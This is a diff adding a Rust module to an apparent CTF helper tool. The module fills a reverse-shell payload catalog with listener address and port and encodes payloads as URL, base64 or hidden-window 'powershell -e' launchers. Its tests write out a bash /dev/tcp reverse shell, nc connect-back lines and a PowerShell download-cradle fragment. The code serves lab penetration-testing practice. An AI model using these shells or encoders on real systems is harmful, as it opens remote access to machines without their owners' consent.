@@ -0,0 +1,218 @@
+use crate::config::Config;
+use crate::models::CtfBox;
+use base64::Engine;
+use serde::Deserialize;
+
+/// Catalog shipped with ctf-brain
+const BUILTIN: &str = include_str!("../data/payloads.toml");
+
+/// A reverse shell or payload command line
+#[derive(Debug, Clone, PartialEq, Deserialize)]
+pub struct Payload {
+    pub name: String,
+    /// linux, windows, web, msfvenom...
+    #[serde(default)]
+    pub platform: String,
+    /// Text with `{{LHOST}}` and `{{LPORT}}` placeholders
+    pub payload: String,
+}
+
+#[derive(Debug, Deserialize)]
+struct Catalog {
+    #[serde(default)]
+    payload: Vec<Payload>,
+}
+
+/// How a payload is shown and copied
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub enum Encoding {
+    #[default]
+    Raw,
+    Url,
+    Base64,
+    /// `powershell -e` with the UTF-16LE base64 of the payload
+    PowerShell,
+}
+
+impl Encoding {
+    pub const ALL: [Encoding; 4] = [
+        Encoding::Raw,
+        Encoding::Url,
+        Encoding::Base64,
+        Encoding::PowerShell,
+    ];
+
+    pub fn label(self) -> &'static str {
+        match self {
+            Encoding::Raw => "Raw",
+            Encoding::Url => "URL",
+            Encoding::Base64 => "Base64",
+            Encoding::PowerShell => "PowerShell -e",
+        }
+    }
+
+    pub fn next(self) -> Encoding {
+        let index = Self::ALL.iter().position(|e| *e == self).unwrap_or(0);
+        Self::ALL[(index + 1) % Self::ALL.len()]
+    }
+
+    pub fn encode(self, text: &str) -> String {
+        let base64 = base64::engine::general_purpose::STANDARD;
+        match self {
+            Encoding::Raw => text.to_string(),
+            Encoding::Url => url_encode(text),
+            Encoding::Base64 => base64.encode(text),
+            Encoding::PowerShell => {
+                let utf16: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
+                format!("powershell -nop -w hidden -e {}", base64.encode(utf16))
+            }
+        }
+    }
+}
+
+/// Percent-encode everything but the unreserved characters
+pub fn url_encode(text: &str) -> String {
+    text.bytes()
+        .map(|b| match b {
+            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
+                (b as char).to_string()
+            }
+            _ => format!("%{:02X}", b),
+        })
+        .collect()
+}
+
+/// Built-in payloads, then the user's from `payloads.toml` in the base dir
+pub fn payloads(config: &Config) -> Vec<Payload> {
+    let mut payloads = toml::from_str::<Catalog>(BUILTIN)
+        .map(|c| c.payload)
+        .unwrap_or_default();
+    if let Some(user) = std::fs::read_to_string(config.base_dir().join("payloads.toml"))
+        .ok()
+        .and_then(|content| toml::from_str::<Catalog>(&content).ok())
+    {
+        payloads.extend(user.payload);
+    }
+    payloads
+}
+
+/// Address the target connects back to: the box's LHOST variable, or the
+/// address of `network.lhost_interface`
+pub fn lhost(ctf_box: &CtfBox, config: &Config) -> Result<String, String> {
+    match ctf_box.env_vars.get("LHOST") {
+        Some(lhost) => Ok(lhost.clone()),
+        None => crate::network::interface_address(&config.network.lhost_interface)
+            .map(|address| address.to_string()),
+    }
+}
+
+/// The box's LPORT variable, or `network.listener_port`
+pub fn lport(ctf_box: &CtfBox, config: &Config) -> String {
+    ctf_box
+        .env_vars
+        .get("LPORT")
+        .cloned()
+        .unwrap_or_else(|| config.network.listener_port.to_string())
+}
+
+impl Payload {
+    /// The payload for this listener
+    pub fn fill(&self, lhost: &str, lport: &str) -> String {
+        self.payload
+            .replace("{{LHOST}}", lhost)
+            .replace("{{LPORT}}", lport)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn encodings_of_known_vectors() {
+        let shell = "bash -i >& /dev/tcp/10.10.14.2/4444 0>&1";
+        assert_eq!(Encoding::Raw.encode(shell), shell);
+        assert_eq!(
+            Encoding::Base64.encode(shell),
+            "YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4xMC4xNC4yLzQ0NDQgMD4mMQ=="
+        );
+        assert_eq!(
+            Encoding::Url.encode(shell),
+            "bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F10.10.14.2%2F4444%200%3E%261"
+        );
+        assert_eq!(
+            Encoding::PowerShell.encode("IEX(New-Object Net.WebClient)"),
+            "powershell -nop -w hidden -e \
+             SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAA=="
+        );
+        // Bytes of UTF-8, code units of UTF-16
+        assert_eq!(Encoding::Base64.encode("é"), "w6k=");
+        assert_eq!(Encoding::PowerShell.encode("é"), "powershell -nop -w hidden -e 6QA=");
+        assert_eq!(Encoding::Base64.encode(""), "");
+    }
+
+    #[test]
+    fn url_encoding_keeps_the_unreserved_characters() {
+        assert_eq!(url_encode("AZaz09-_.~"), "AZaz09-_.~");
+        assert_eq!(url_encode("a b+c&d=e?f#g"), "a%20b%2Bc%26d%3De%3Ff%23g");
+        assert_eq!(url_encode("é\n%"), "%C3%A9%0A%25");
+    }
+
+    #[test]
+    fn encodings_cycle() {
+        let mut encoding = Encoding::default();
+        let mut seen = Vec::new();
+        for _ in 0..Encoding::ALL.len() {
+            seen.push(encoding);
+            encoding = encoding.next();
+        }
+        assert_eq!(seen, Encoding::ALL);
+        assert_eq!(encoding, Encoding::Raw);
+    }
+
+    #[test]
+    fn fill_replaces_every_placeholder() {
+        let payload = Payload {
+            name: "Test".to_string(),
+            platform: "linux".to_string(),
+            payload: "nc {{LHOST}} {{LPORT}} # {{LHOST}}:{{LPORT}} {{OTHER}}".to_string(),
+        };
+        assert_eq!(
+            payload.fill("10.10.14.2", "9001"),
+            "nc 10.10.14.2 9001 # 10.10.14.2:9001 {{OTHER}}"
+        );
+    }
+
+    #[test]
+    fn catalog_is_builtin_then_user() {
+        let dir = tempfile::tempdir().unwrap();
+        let mut config = Config::default();
+        config.paths.base_dir = dir.path().to_string_lossy().to_string();
+        let builtin = payloads(&config);
+        assert!(!builtin.is_empty());
+        assert!(builtin.iter().any(|p| p.name == "Bash TCP"));
+
+        std::fs::write(
+            dir.path().join("payloads.toml"),
+            "[[payload]]\nname = \"Mine\"\npayload = \"nc {{LHOST}} {{LPORT}}\"\n",
+        )
+        .unwrap();
+        let all = payloads(&config);
+        assert_eq!(all.len(), builtin.len() + 1);
+        assert_eq!(all.last().map(|p| p.name.as_str()), Some("Mine"));
+
+        std::fs::write(dir.path().join("payloads.toml"), "[[payload]]\nname = ").unwrap();
+        assert_eq!(payloads(&config), builtin);
+    }
+
+    #[test]
+    fn listener_from_the_box_variables() {
+        let mut ctf_box = CtfBox::sample(1, "Lame");
+        let config = Config::default();
+        assert_eq!(lport(&ctf_box, &config), "4444");
+        ctf_box.env_vars.insert("LPORT".to_string(), "9001".to_string());
+        ctf_box.env_vars.insert("LHOST".to_string(), "10.10.14.2".to_string());
+        assert_eq!(lport(&ctf_box, &config), "9001");
+        assert_eq!(lhost(&ctf_box, &config).as_deref(), Ok("10.10.14.2"));
+    }
+}